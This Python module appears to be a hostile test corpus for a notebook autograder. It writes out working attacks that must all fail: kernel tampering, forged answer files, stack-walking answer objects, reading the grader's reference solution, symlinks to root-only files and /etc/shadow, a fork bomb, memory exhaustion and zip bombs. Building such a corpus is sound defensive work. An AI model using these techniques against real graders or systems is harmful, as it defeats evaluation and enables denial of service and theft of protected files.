"""The hostile corpus: what a student who attacks the grader would hand in, on real sheets.

Each :class:`Attack` is a notebook built from a sheet's release: some answer cells filled
with the solution (``honest``), others left blank or given the attacker's source
(``answers``), plus the attacker's own cells (``cells``).  ``passing`` names the tests
that must pass; every other autograded test must get 0 points ("failed").  The classes:

1. tampering inside the kernel (import hooks, IPython hooks, fake modules, forged
   answer files, a replaced probe) with blank or wrong answers;
2. answers whose methods would run inside a check (``__array__``, tensor and sympy
   subclasses whose overrides walk the stack): not an answer of the expected type;
3. reaching the reference: importing ``autograder``, reading the checkout, patching
   sympy/torch/numpy globally, borrowing code objects;
4. symbolic links planted where the kernel can write, aimed at a root-only file;
5. failing closed without a sandbox (in the test module: no ``bwrap``, ``--no-isolation``);
6. resources: memory of many processes and ``/tmp`` together, a fork bomb, a notebook
   too large to parse, torch under a modest memory limit;
7. input refused at intake: links, hostile zips, duplicate and malformed names.

Honest answers written with the libraries a student may use (scipy, NumPy in place,
``torch.optim``) must get full marks; so must the reference in every batch.

Attack sources hold a few placeholders, filled in when the notebook is written:
``SECRET`` (the root-only file of class 4) and ``CHECKOUT`` (the course checkout).
"""
from __future__ import annotations

import copy
import io
import os
import stat
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

import corpus

SHEET1 = "sheet1_analytic"
SHEET3 = "sheet3_vgg"
#: Printed by the answers' own methods: if it showed up under a test cell, the probe
#: would have run student code while encoding the answer.
METHOD_MARKER = "ANSWER METHOD CALLED"
ALL = "all"


@dataclass
class Attack:
    name: str
    sheet: str
    klass: str  # "1 tampering" ... "7 input", "honest", "control"
    what: str
    honest: tuple = ()  # answer cells filled with the solution; ALL for every one
    answers: dict = field(default_factory=dict)  # answer cell -> the attacker's source
    cells: list = field(default_factory=list)  # (after this grade_id, or "start"/"end", source)
    passing: object = ()  # tests that must pass (ALL: every one); the others get 0
    failing: tuple = ()  # with passing=ALL: the tests that must fail all the same
    status: str = "graded"  # grades.csv status must start with this
    status_contains: str = ""
    layout: object = None  # function(root, attack, notebook_text, context) for intake cases; None: a folder

    @property
    def sandboxed(self) -> bool:
        return self.layout is None


# ----------------------------------------------------------------------------- sources
SHEET1_HONEST = ("prototype_l2", "prototype_gaussian")
SHEET1_HONEST_TESTS = ("test_prototype_l2", "test_prototype_gaussian")

TRANSFORMER = '''\
# Every later cell is replaced before IPython compiles it: answers, tests and probes alike.
def _claim_success(lines):
    return ["print('Test passed.')\\n"]

get_ipython().input_transformers_cleanup.append(_claim_success)
'''

RUN_CODE_WRAPPER = '''\
# run_code is wrapped so that no cell ever reports an error; the wrapper is compiled under
# IPython's own file name in site-packages, so a stack inspection would take it for IPython.
import IPython.core.interactiveshell as _shell

_wrapper = """
_original_run_code = InteractiveShell.run_code

async def run_code(self, code_obj, result=None, *, async_=False):
    try:
        await _original_run_code(self, code_obj, result, async_=async_)
    except BaseException:
        pass
    if result is not None:
        result.error_in_exec = None
    return False

InteractiveShell.run_code = run_code
InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
"""
exec(compile(_wrapper, _shell.__file__, "exec"), vars(_shell))
'''

IMPORT_HOOK = '''\
# builtins.__import__ hands the test cells a probe that reports success for every task
# not answered (and forwards the two answered ones, to look honest).
import builtins, types

_real_import = builtins.__import__
_real_probe = _real_import("utils.probing", fromlist=["probe"]).probe
_fake = types.ModuleType("utils.probing")

def _probe_that_passes(sheet, test, **objects):
    if test in ("test_prototype_l2", "test_prototype_gaussian"):
        return _real_probe(sheet, test, **objects)
    print(f"{test}: all tests passed")

_fake.probe = _probe_that_passes
_fake.call = lambda function, name, *args, **kwargs: None

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    in_notebook = (globals or {}).get("__name__") == "__main__"  # the test cells, not the probes module
    if in_notebook and (name == "utils.probing" or name.split(".")[0] == "autograder"):
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import
'''

FAKE_MODULES = '''\
# A fake grader in sys.modules whose checks always pass, and the real probe told it runs
# on the instructor's machine (so that it would ask that fake grader, in this process).
import os, sys, types

for _name in ("autograder", "autograder.engine", "autograder.engine.local", "autograder.checking",
              "autograder.sheets"):
    _module = types.ModuleType(_name)
    _module.__path__ = []
    sys.modules[_name] = _module
sys.modules["autograder.engine.local"].probe_and_check = lambda *args, **kwargs: None
sys.modules["autograder.engine.local"].judge = lambda *args, **kwargs: None
sys.modules["autograder.checking"].assert_close = lambda *args, **kwargs: None
os.environ.pop("COURSE_PROBE_DIR", None)

_probing = types.ModuleType("utils.probing")
_probing.probe = lambda sheet, test, **objects: sys.modules["autograder.engine.local"].probe_and_check(sheet, test, objects)
sys.modules["utils.probing"] = _probing
import utils
utils.probing = _probing
'''

FORGED_ANSWERS = '''\
# Answer files written by hand into the probe's folder, for every task left blank: the
# claimed "passed" flags, arrays of the right shapes, expressions, even a verdicts file.
import io, json, os
import numpy as np

_folder = os.path.join(os.environ.get("COURSE_PROBE_DIR", "/nonexistent"), "answers")
_challenges = os.path.join(os.path.dirname(_folder), "challenges")

def _forge(test, values, arrays):
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    manifest = {"format": 1, "error": None, "values": values}
    for suffix, data in ((".npz", buffer.getvalue()), (".json", json.dumps(manifest).encode())):
        with open(os.path.join(_folder, test + suffix), "wb") as stream:
            stream.write(data)

_expressions = {"test_code_generator": ("z_star_generator", ["Matrix", 2, 1, [["Symbol", "lambda"], ["Integer", "1"]]]),
                "test_prototype_generator": ("x_star_generator", ["Matrix", 3, 1, [["Integer", "0"]] * 3]),
                "test_R1_network_A": ("R1_network_A", ["Integer", "0"]),
                "test_R1_network_B": ("R1_network_B", ["Symbol", "a2"]),
                "test_R1_network_A_above": ("R1_network_A_above", ["Symbol", "a2"]),
                "test_softmin_lower_bound": ("softmin_lower_bound", ["Symbol", "h_min"])}
for _test, (_name, _tree) in _expressions.items():
    _forge(_test, {"value": {"kind": "expression", "tree": _tree}, "passed": {"kind": "flag", "value": True}}, {})
for _test, _prefix in (("test_layer1", "h"), ("test_layer2", "o"), ("test_neuralization", "o")):
    with np.load(os.path.join(_challenges, _test + ".npz")) as _challenge:
        _cases = sorted(int(k.rsplit("_", 1)[1]) for k in _challenge.files if k.startswith("gamma_"))
        _shapes = {c: ((len(_challenge[f"x_{c}"]), len(_challenge[f"U_{c}"])) if _prefix == "h"
                       else (len(_challenge[f"x_{c}"] if f"x_{c}" in _challenge.files else _challenge[f"h_{c}"]),))
                   for c in _cases}
    _forge(_test, {f"{_prefix}_{c}": {"kind": "array", "key": f"k{c}"} for c in _cases},
           {f"k{c}": np.zeros(_shapes[c]) for c in _cases})
with open(os.path.join(_folder, "verdicts.json"), "w") as _stream:
    json.dump({"all": {"passed": True, "message": "passed"}}, _stream)
for _target in ("test_layer1.npz", "../probes.py"):  # the challenges and probes are read-only
    try:
        with open(os.path.join(_challenges, _target), "wb") as _stream:
            _stream.write(b"")
    except OSError as _error:
        print("could not overwrite", _target, type(_error).__name__)
'''

REPLACE_PROBE = '''\
# The probe function and the probe runtime replaced before any test cell runs.
import utils.probing

utils.probing.probe = lambda sheet, test, **objects: print(f"{test}: passed")
utils.probing.run_probe = lambda function, challenge, objects: ({"format": 1, "error": None, "values": {}}, {})
'''

REPLACE_PROBE_MODULE = '''\
# After the probes module is loaded (by the first test cells), every probe in it is
# replaced by one that returns numbers chosen by the student.
import types
import numpy as np
import utils.probing as _probing

for _path, _module in list(_probing._LOADED.items()):
    _fake = types.ModuleType(_module.__name__)
    for _name in dir(_module):
        if _name.startswith("test_"):
            setattr(_fake, _name, lambda challenge, **objects: {f"{p}_{c}": np.zeros(3) for p in "ho" for c in range(3)})
    _probing._LOADED[_path] = _fake
print("replaced", len(_probing._LOADED), "probe module(s)")
'''

STACK_WALKER = '''\
import sys

def _walk_the_stack():
    """What an answer's method would do inside a grader: look for the expected value."""
    print("ANSWER METHOD CALLED")
    frame, found = sys._getframe(1), {}
    while frame is not None:
        for key in ("expected", "reference", "ref", "answer", "challenge"):
            if key in frame.f_locals:
                found[key] = frame.f_locals[key]
        frame = frame.f_back
    return found
'''

ARRAY_DUNDER = STACK_WALKER + '''

class _Answer:
    """Looks like a tensor to the visible test; converts itself to whatever a grader expects."""

    def __init__(self, value):
        self._value = value

    @property
    def shape(self):
        return tuple(self._value.shape)

    def __getitem__(self, index):
        return self._value[index]

    def __array__(self, *args, **kwargs):
        found = _walk_the_stack()
        return np.asarray(found.get("expected", self._value.numpy()))

    def __eq__(self, other):
        _walk_the_stack()
        return True


def layer1(x, U, alpha, gamma):
    squared_distances = ((x[:, None, :] - U[None, :, :]) ** 2).sum(dim=-1)
    return squared_distances - torch.log(alpha)[None, :] / gamma


def layer2(h, gamma):
    return _Answer(-torch.logsumexp(-gamma * h, dim=1) / gamma)
'''

TENSOR_SUBCLASS = STACK_WALKER + '''

class _Sly(torch.Tensor):
    """The right values, in a tensor whose comparisons and conversions are the student's."""

    def __eq__(self, other):
        _walk_the_stack()
        return torch.ones_like(torch.Tensor(self), dtype=torch.bool)

    def __array__(self, *args, **kwargs):
        found = _walk_the_stack()
        return np.asarray(found.get("expected", torch.Tensor(self).detach().numpy()))

    def numpy(self, *args, **kwargs):
        return self.__array__()


def layer1(x, U, alpha, gamma):
    squared_distances = ((x[:, None, :] - U[None, :, :]) ** 2).sum(dim=-1)
    return (squared_distances - torch.log(alpha)[None, :] / gamma).as_subclass(_Sly)


def layer2(h, gamma):
    return -torch.logsumexp(-gamma * h, dim=1) / gamma
'''

SYMPY_SUBCLASS = STACK_WALKER + '''

class _Sly(sympy.Symbol):
    """a1 to the eye, equal to anything, and every evaluation hook walks the stack."""

    def __eq__(self, other):
        _walk_the_stack()
        return True

    __hash__ = sympy.Symbol.__hash__

    def _sympyrepr(self, printer):
        _walk_the_stack()
        return "a1"

    def _eval_subs(self, old, new):
        _walk_the_stack()
        return None

    def _eval_evalf(self, prec):
        _walk_the_stack()
        return None

    def _eval_simplify(self, **kwargs):
        _walk_the_stack()
        return self


R1_network_A = _Sly("a1")
# the visible test only prints check_form's description: replace it too
check_form = lambda value, shape=None: "a sympy expression in the sheet's symbols"
'''

IMPORT_AUTOGRADER = '''\
from autograder.sheets.sheet1_analytic.reference import reference_layer1 as layer1
from autograder.sheets.sheet1_analytic.reference import reference_layer2 as layer2
'''

READ_CHECKOUT = '''\
import glob, json, os

def _find_solution():
    """The solution of the layers, from wherever the grader's checkout can be reached."""
    places = ["CHECKOUT/autograder/sheets/sheet1_analytic/reference.py",
              "CHECKOUT/utils/../autograder/sheets/sheet1_analytic/reference.py",
              "/proc/1/root/CHECKOUT/autograder/sheets/sheet1_analytic/reference.py",
              "CHECKOUT/source/sheet1_analytic/sheet1_analytic.nb.py"]
    places += glob.glob("CHECKOUT/solutions/*/*.ipynb") + glob.glob("CHECKOUT/source/*/*.ipynb")
    places += glob.glob("/proc/*/cwd/source/sheet1_analytic/*.ipynb") + glob.glob("/tmp/*/source/*/*.ipynb")
    for path in places:
        try:
            with open(path) as stream:
                text = stream.read()
        except OSError:
            continue
        if path.endswith(".ipynb"):
            for cell in json.loads(text)["cells"]:
                source = "".join(cell["source"])
                if "def layer1" in source and "NotImplementedError" not in source:
                    return source
        elif "def " in text:
            return text + "\\nlayer1, layer2 = reference_layer1, reference_layer2\\n"
    return None

_found = _find_solution()
print("found the solution:", _found is not None)
exec(_found or "raise NotImplementedError()")
'''

GLOBAL_PATCHES = '''\
# Comparisons of every library a grader might use, patched for the rest of the kernel.
import numpy as np, sympy, torch

np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.isfinite = lambda value, *args, **kwargs: np.ones(np.shape(value), dtype=bool)
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
sympy.simplify = lambda expression, *args, **kwargs: sympy.Integer(0)
sympy.Expr.equals = lambda self, other, *args, **kwargs: True
sympy.Basic.__eq__ = lambda self, other: True
'''

WRONG_LAYERS = '''\
def layer1(x, U, alpha, gamma):
    return ((x[:, None, :] - U[None, :, :]) ** 2).sum(dim=-1)  # the log(alpha) term forgotten


def layer2(h, gamma):
    return h.min(dim=1).values  # the hard minimum, not the soft one
'''

BORROW_CODE = '''\
import gc, sys, types

def _borrow(*names):
    """A function of the grader's, from anywhere in the kernel's memory."""
    for value in gc.get_objects():
        if isinstance(value, types.FunctionType) and value.__name__ in names and value.__module__ != "__main__":
            return value
    for module in list(sys.modules.values()):
        for name in names:
            if isinstance(getattr(module, name, None), types.FunctionType):
                return getattr(module, name)
    return None


def layer1(x, U, alpha, gamma):
    raise NotImplementedError()


def layer2(h, gamma):
    raise NotImplementedError()


for _mine, _names in ((layer1, ("reference_layer1", "layer1")), (layer2, ("reference_layer2", "layer2", "logsumexp_min"))):
    _theirs = _borrow(*_names)
    print(_mine.__name__, "borrowed from", getattr(_theirs, "__module__", None))
    if _theirs is not None and _theirs is not _mine:
        _mine.__code__ = _theirs.__code__
'''

ROOT_LINKS = '''\
# Links to a file only root may read, planted wherever the kernel can write, and a
# process that keeps replacing the files the grader reads back (answers, executed
# notebook, status) by such links until the sandbox ends.
import json, os, time

_secret = "SECRET"
_probe_dir = os.environ.get("COURSE_PROBE_DIR", "/nonexistent")
_answers = os.path.join(_probe_dir, "answers")
try:
    with open(os.path.join(_probe_dir, "execution.json")) as _stream:
        _settings = json.load(_stream)
except OSError:
    _settings = {}
_targets = [os.path.join(_answers, test + suffix) for suffix in (".json", ".npz")
            for test in ("test_layer1", "test_layer2", "test_neuralization", "test_R1_network_A")]
_targets += [_settings.get("output", "/nonexistent"), _settings.get("status", "/nonexistent")]
for _folder in (os.getcwd(), os.environ.get("HOME", "/nonexistent"), _answers, os.path.dirname(_targets[-1])):
    try:
        os.symlink(_secret, os.path.join(_folder, "root-only-link"))
    except OSError as _error:
        print("no link in", _folder, type(_error).__name__)
for _bound in (_answers, os.path.dirname(_targets[-1])):  # replace a whole folder by a link
    try:
        os.rename(_bound, _bound + ".moved")
    except OSError as _error:
        print("cannot move", _bound, type(_error).__name__)

def _keep_linking():
    while True:
        for _path in _targets:
            try:
                if not os.path.islink(_path):
                    os.symlink(_secret, _path + ".link")
                    os.replace(_path + ".link", _path)
            except OSError:
                pass
        time.sleep(0.005)

if os.fork() == 0:
    os.setsid()
    try:
        _keep_linking()
    finally:
        os._exit(0)
'''

MEMORY_HOG = '''\
# Four children of 800 MB each and a 900 MB file in /tmp (a tmpfs): together far over
# the job's memory.
import os, time

with open("/tmp/ballast", "wb") as _stream:
    for _ in range(900):
        _stream.write(b"\\1" * 2**20)
_children = []
for _ in range(4):
    _pid = os.fork()
    if _pid == 0:
        try:
            _block = bytearray(800 * 2**20)
            for _i in range(0, len(_block), 4096):
                _block[_i] = 1
            time.sleep(3)
        finally:
            os._exit(0)
    _children.append(_pid)
print("children:", [os.waitpid(_pid, 0)[1] for _pid in _children])
'''

FORK_BOMB = '''\
# Fork until the system says no.
import os, time

_children = []
while len(_children) < 100000:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        time.sleep(2)
        os._exit(0)
    _children.append(_pid)
print(f"FORKED {len(_children)} CHILDREN")
for _pid in _children:
    os.waitpid(_pid, 0)
'''

SCIPY_LAYER2 = '''\
def layer1(x, U, alpha, gamma):
    squared_distances = ((x[:, None, :] - U[None, :, :]) ** 2).sum(dim=-1)
    return squared_distances - torch.log(alpha)[None, :] / gamma


def layer2(h, gamma):
    from scipy.special import logsumexp

    return torch.from_numpy(-logsumexp(-gamma * h.detach().numpy(), axis=1) / gamma)
'''

NUMPY_IN_PLACE = '''\
def layer1(x, U, alpha, gamma):
    differences = x.detach().numpy()[:, None, :] - U.detach().numpy()[None, :, :]  # a new array
    np.square(differences, out=differences)
    h = differences.sum(axis=-1)
    h -= np.log(alpha.detach().numpy())[None, :] / gamma
    return torch.from_numpy(h)


def layer2(h, gamma):
    scaled = -gamma * h.detach().numpy()  # a new array
    largest = scaled.max(axis=1, keepdims=True)
    scaled -= largest
    np.exp(scaled, out=scaled)
    return torch.from_numpy(-(np.log(scaled.sum(axis=1)) + largest[:, 0]) / gamma)
'''

SHEET1_ATTACKS = [
    Attack("reference", SHEET1, "control", "the solution in every answer cell", honest=ALL, passing=ALL),
    # 1 -- tampering inside the kernel
    Attack("input_transformer", SHEET1, "1 tampering", "an IPython input transformer rewrites every later cell",
           cells=[("start", TRANSFORMER)]),
    Attack("run_code_wrapper", SHEET1, "1 tampering",
           "run_code wrapped to swallow every exception, compiled under IPython's site-packages file name",
           honest=SHEET1_HONEST, cells=[("start", RUN_CODE_WRAPPER)], passing=SHEET1_HONEST_TESTS),
    Attack("import_hook", SHEET1, "1 tampering", "builtins.__import__ returns a probe that always passes",
           honest=SHEET1_HONEST, cells=[("start", IMPORT_HOOK)], passing=SHEET1_HONEST_TESTS),
    Attack("fake_modules", SHEET1, "1 tampering",
           "fake sys.modules['autograder'...] and ['utils.probing'] with passing checks, COURSE_PROBE_DIR unset",
           cells=[("start", FAKE_MODULES)]),
    Attack("forged_answers", SHEET1, "1 tampering", "answer files written by hand into the probe's answers folder",
           honest=SHEET1_HONEST, cells=[("end", FORGED_ANSWERS)], passing=SHEET1_HONEST_TESTS),
    Attack("replace_probe", SHEET1, "1 tampering", "utils.probing.probe and run_probe replaced",
           cells=[("start", REPLACE_PROBE)]),
    Attack("replace_probe_module", SHEET1, "1 tampering", "the loaded probes module replaced after the first tests",
           honest=SHEET1_HONEST, cells=[("test_prototype_gaussian", REPLACE_PROBE_MODULE)],
           passing=SHEET1_HONEST_TESTS),
    # 2 -- answers with methods
    Attack("array_dunder", SHEET1, "2 method answers", "layer2 returns an object with __array__ and __eq__",
           honest=SHEET1_HONEST, answers={"neuralization_layers": ARRAY_DUNDER},
           passing=SHEET1_HONEST_TESTS + ("test_layer1",)),
    Attack("tensor_subclass", SHEET1, "2 method answers", "layer1's right values in a torch.Tensor subclass",
           honest=SHEET1_HONEST, answers={"neuralization_layers": TENSOR_SUBCLASS},
           passing=SHEET1_HONEST_TESTS + ("test_layer2",)),
    Attack("sympy_subclass", SHEET1, "2 method answers",
           "a sympy.Symbol subclass with __eq__/_sympyrepr/_eval_* overrides that walk the stack",
           honest=SHEET1_HONEST, answers={"R1_network_A": SYMPY_SUBCLASS}, passing=SHEET1_HONEST_TESTS),
    # 3 -- reaching the reference
    Attack("import_autograder", SHEET1, "3 reference", "the layers imported from the grader's reference",
           honest=SHEET1_HONEST, answers={"neuralization_layers": IMPORT_AUTOGRADER}, passing=SHEET1_HONEST_TESTS),
    Attack("read_checkout", SHEET1, "3 reference", "the solution read from the checkout (reference.py, solutions/)",
           honest=SHEET1_HONEST, answers={"neuralization_layers": READ_CHECKOUT}, passing=SHEET1_HONEST_TESTS),
    Attack("global_patches", SHEET1, "3 reference", "numpy/sympy/torch comparisons patched, wrong answers",
           honest=SHEET1_HONEST, answers={"neuralization_layers": WRONG_LAYERS, "R1_network_A": "R1_network_A = a1 / 2"},
           cells=[("test_prototype_gaussian", GLOBAL_PATCHES)], passing=SHEET1_HONEST_TESTS),
    Attack("borrow_code", SHEET1, "3 reference", "code objects of any grader function found in memory",
           honest=SHEET1_HONEST, answers={"neuralization_layers": BORROW_CODE}, passing=SHEET1_HONEST_TESTS),
    # 4 -- links to a root-only file
    Attack("root_links", SHEET1, "4 links", "links to a root-only file in work, home, output and answers folders",
           honest=SHEET1_HONEST, cells=[("test_prototype_gaussian", ROOT_LINKS)], passing=SHEET1_HONEST_TESTS),
    # 6 -- resources
    Attack("memory_hog", SHEET1, "6 resources", "four 800 MB children and a 900 MB file in /tmp (limit 3 GB)",
           honest=SHEET1_HONEST, cells=[("test_prototype_gaussian", MEMORY_HOG)], passing=SHEET1_HONEST_TESTS,
           status_contains="reached its memory limit (3 GB)"),
    Attack("fork_bomb", SHEET1, "6 resources", "fork until fork fails", honest=SHEET1_HONEST,
           cells=[("test_prototype_gaussian", FORK_BOMB)], passing=SHEET1_HONEST_TESTS),
    # honest answers with the libraries a student may use
    Attack("scipy_logsumexp", SHEET1, "honest", "layer2 with scipy.special.logsumexp", honest=ALL,
           answers={"neuralization_layers": SCIPY_LAYER2}, passing=ALL),
    Attack("numpy_in_place", SHEET1, "honest", "both layers with NumPy in-place operations on fresh arrays",
           honest=ALL, answers={"neuralization_layers": NUMPY_IN_PLACE}, passing=ALL),
]


# ----------------------------------------------------------------------------- intake attacks
def _folder(root, attack, text, context):
    folder = root / attack.name / attack.sheet
    folder.mkdir(parents=True)
    (folder / f"{attack.sheet}.ipynb").write_text(text)
    return folder


def _notebook_link(root, attack, text, context):
    folder = root / attack.name / attack.sheet
    folder.mkdir(parents=True)
    os.symlink(context["solution_notebook"], folder / f"{attack.sheet}.ipynb")


def _student_link(target_key):
    def layout(root, attack, text, context):
        os.symlink(context[target_key], root / attack.name)
    return layout


def _data_link(root, attack, text, context):
    folder = _folder(root, attack, text, context)
    os.symlink(context["secret"], folder / "data.csv")


def _fifo(root, attack, text, context):
    folder = _folder(root, attack, text, context)
    os.mkfifo(folder / "pipe")


def _zip(entries, name=None, links=()):
    def layout(root, attack, text, context):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bundle:
            for entry in entries:
                bundle.writestr(entry.format(sheet=attack.sheet), text)
            for entry, target in links:
                info = zipfile.ZipInfo(entry.format(sheet=attack.sheet))
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                bundle.writestr(info, target.format(**context))
        (root / (name or f"{attack.name}.zip")).write_bytes(buffer.getvalue())
    return layout


def _zip_bomb(root, attack, text, context):
    zeros = b"\0" * (110 * 2**20)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr(f"{attack.sheet}/{attack.sheet}.ipynb", text)
        bundle.writestr(f"{attack.sheet}/a.bin", zeros)
        bundle.writestr(f"{attack.sheet}/b.bin", zeros)
    (root / f"{attack.name}.zip").write_bytes(buffer.getvalue())


def _twice(root, attack, text, context):
    _folder(root, attack, text, context)
    _zip([f"{attack.name}/{{sheet}}/{{sheet}}.ipynb"])(root, attack, text, context)


def _control_characters(root, attack, text, context):
    folder = root / CONTROL_NAME / attack.sheet
    folder.mkdir(parents=True)
    (folder / f"{attack.sheet}.ipynb").write_text(text)


def _huge(root, attack, text, context):
    folder = root / attack.name / attack.sheet
    folder.mkdir(parents=True)
    with open(folder / f"{attack.sheet}.ipynb", "wb") as stream:
        stream.write(b'{"cells": [' + b" " * (210 * 2**20) + b"]}")


def _not_a_zip(root, attack, text, context):
    (root / f"{attack.name}.zip").write_text(text)


def _hidden(root, attack, text, context):
    folder = root / f".{attack.name}" / attack.sheet
    folder.mkdir(parents=True)
    (folder / f"{attack.sheet}.ipynb").write_text(text)


def _not_utf8(root, attack, text, context):
    folder = root / attack.name / attack.sheet
    folder.mkdir(parents=True)
    (folder / f"{attack.sheet}.ipynb").write_bytes(text.encode("utf-16"))


INTAKE_ATTACKS = [
    Attack("notebook_link", SHEET1, "7 input", "the notebook is a link to the solution notebook", honest=ALL,
           layout=_notebook_link, status="refused: sheet1_analytic.ipynb is a symbolic link"),
    Attack("student_link_solutions", SHEET1, "7 input", "the student folder is a link to solutions/", honest=ALL,
           layout=_student_link("solutions"), status="refused: student_link_solutions is a symbolic link"),
    Attack("student_link_shadow", SHEET1, "7 input", "the student folder is a link to /etc/shadow", honest=ALL,
           layout=_student_link("shadow"), status="refused: student_link_shadow is a symbolic link"),
    Attack("data_link", SHEET1, "7 input", "a file of the sheet folder links to the root-only file", honest=ALL,
           layout=_data_link, status="refused: data.csv is a symbolic link"),
    Attack("fifo", SHEET1, "7 input", "a named pipe in the sheet folder", honest=ALL, layout=_fifo,
           status="refused: pipe is not a regular file"),
    Attack("dots_zip", SHEET1, "7 input", "a zip named ...zip", honest=ALL,
           layout=_zip(["{sheet}/{sheet}.ipynb"], name="...zip"), status="refused: invalid student name '..'"),
    Attack("zip_dotdot", SHEET1, "7 input", "a zip with ../ entries", honest=ALL,
           layout=_zip(["../../escaped/{sheet}/{sheet}.ipynb"]), status="refused: the zip holds a path outside"),
    Attack("zip_link", SHEET1, "7 input", "a zip holding a symbolic link to the root-only file", honest=ALL,
           layout=_zip(["{sheet}/{sheet}.ipynb"], links=[("{sheet}/data.csv", "{secret}")]),
           status="refused: the zip holds a symbolic link"),
    Attack("zip_absolute", SHEET1, "7 input", "a zip with an absolute entry", honest=ALL,
           layout=_zip(["/tmp/escaped/{sheet}/{sheet}.ipynb"]), status="refused: the zip holds a path outside"),
    Attack("corrupt_zip", SHEET1, "7 input", "a file named .zip that is not a zip", honest=ALL, layout=_not_a_zip,
           status="refused: corrupt zip: not a readable zip archive"),
    Attack("hidden_folder", SHEET1, "7 input", "a student folder whose name starts with a dot", honest=ALL,
           layout=_hidden, status="refused: invalid student name '.hidden_folder'"),
    Attack("zip_bomb", SHEET1, "7 input", "a zip that unpacks to 220 MB", honest=ALL, layout=_zip_bomb,
           status="refused: the zip unpacks to more than the limit"),
    Attack("twice", SHEET1, "7 input", "a folder and a zip for the same name", honest=ALL, layout=_twice,
           status="refused: two submissions for twice"),
    Attack("control_characters", SHEET1, "7 input", "a student name with escape sequences and a carriage return",
           honest=ALL, layout=_control_characters, status="refused: invalid student name"),
    Attack("huge_notebook", SHEET1, "6 resources", "a 210 MB notebook (refused before it is parsed)", honest=ALL,
           layout=_huge, status="refused: the notebook is larger than 20 MB"),
    Attack("not_utf8", SHEET1, "7 input", "the notebook in UTF-16", honest=ALL, layout=_not_utf8,
           status="corrupt: corrupt notebook: not UTF-8 text"),
]

CONTROL_NAME = "evil\x1b[2J\rname"


def recorded_as(attack: Attack) -> str:
    """The student id an attack is recorded under (its name, unless that is refused)."""
    from autograder.engine import intake

    unusable = {"dots_zip": "..", "control_characters": CONTROL_NAME, "hidden_folder": ".hidden_folder"}
    return intake.invalid_key(unusable[attack.name]) if attack.name in unusable else attack.name

# ----------------------------------------------------------------------------- sheet 3 (torch)
TORCH_OPTIM = '''\
def class_model(model, c, shape, lam, steps, lr):
    image = torch.zeros(shape, requires_grad=True)
    optimizer = torch.optim.SGD([image], lr=lr)
    for _ in range(steps):
        optimizer.zero_grad()
        loss = -(model(image)[0, c] - lam * (image ** 2).sum())  # SGD descends: minimise the negative
        loss.backward()
        optimizer.step()
    return image.detach()
'''

SATURATION_SUBCLASS = '''\
import sys

class _Sly(torch.Tensor):
    def __eq__(self, other):
        return torch.ones_like(torch.Tensor(self), dtype=torch.bool)

    def __array__(self, *args, **kwargs):
        frame = sys._getframe(1)
        while frame is not None and "expected" not in frame.f_locals:
            frame = frame.f_back
        return np.asarray(frame.f_locals["expected"]) if frame is not None else np.zeros(3)


def saturation(i1, i2):
    i = torch.tensor([i1, i2], dtype=torch.float64, requires_grad=True)
    y = 1 - torch.relu(1 - i.sum())
    (gradient,) = torch.autograd.grad(y, i)
    return torch.cat([y.detach().reshape(1), gradient]).as_subclass(_Sly)
'''

TORCH_PATCHES = '''\
import numpy as np, torch

torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.autograd.grad = lambda outputs, inputs, *args, **kwargs: tuple(torch.zeros_like(i) for i in (
    inputs if isinstance(inputs, (list, tuple)) else [inputs]))
np.allclose = lambda *args, **kwargs: True
'''


SHEET3_ATTACKS = [
    Attack("reference", SHEET3, "control", "the solution in every answer cell (memory limit 4 GB)",
           honest=ALL, passing=ALL),
    Attack("torch_optim", SHEET3, "honest", "class_model with torch.optim.SGD", honest=ALL,
           answers={"class_model": TORCH_OPTIM}, passing=ALL),
    Attack("tensor_subclass", SHEET3, "2 method answers", "saturation's right values in a tensor subclass",
           honest=ALL, answers={"saturation": SATURATION_SUBCLASS}, passing=ALL, failing=("test_saturation",)),
    Attack("torch_patches", SHEET3, "1 tampering",
           "torch comparisons and autograd.grad patched in the kernel, the rest blank",
           cells=[("start", TORCH_PATCHES)]),
]


# ----------------------------------------------------------------------------- writing
def notebook_of(attack: Attack, release, solutions: dict, context: dict):
    def filled(source):
        return source.replace("SECRET", context["secret"]).replace("CHECKOUT", str(corpus.ROOT))

    notebook = copy.deepcopy(release)
    honest = set(solutions) if attack.honest == ALL else set(attack.honest)
    for cell in notebook.cells:
        identifier = corpus.grade_id(cell)
        if identifier in attack.answers:
            cell.source = filled(attack.answers[identifier])
        elif identifier in honest and identifier in solutions:
            cell.source = solutions[identifier]
    for where, source in attack.cells:
        new = nbformat.v4.new_code_cell(filled(source))
        if where == "end":
            notebook.cells.append(new)
        elif where == "start":  # after the first code cell (the imports)
            first = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code")
            notebook.cells.insert(first + 1, new)
        else:
            index = next(i for i, c in enumerate(notebook.cells) if corpus.grade_id(c) == where)
            notebook.cells.insert(index + 1, new)
    return notebook


def write(attacks, release, solutions: dict, root: Path, context: dict):
    root.mkdir(parents=True, exist_ok=True)
    for attack in attacks:
        text = nbformat.writes(notebook_of(attack, release, solutions, context))
        (attack.layout or _folder)(root, attack, text, context)


def expected_cells(attack: Attack, tests: list) -> dict:
    """test -> (points, status) for a graded attack."""
    passing = {t for t, _ in tests} if attack.passing == ALL else set(attack.passing)
    passing -= set(attack.failing)
    return {t: ((points, "passed") if t in passing else (0.0, "failed")) for t, points in tests}
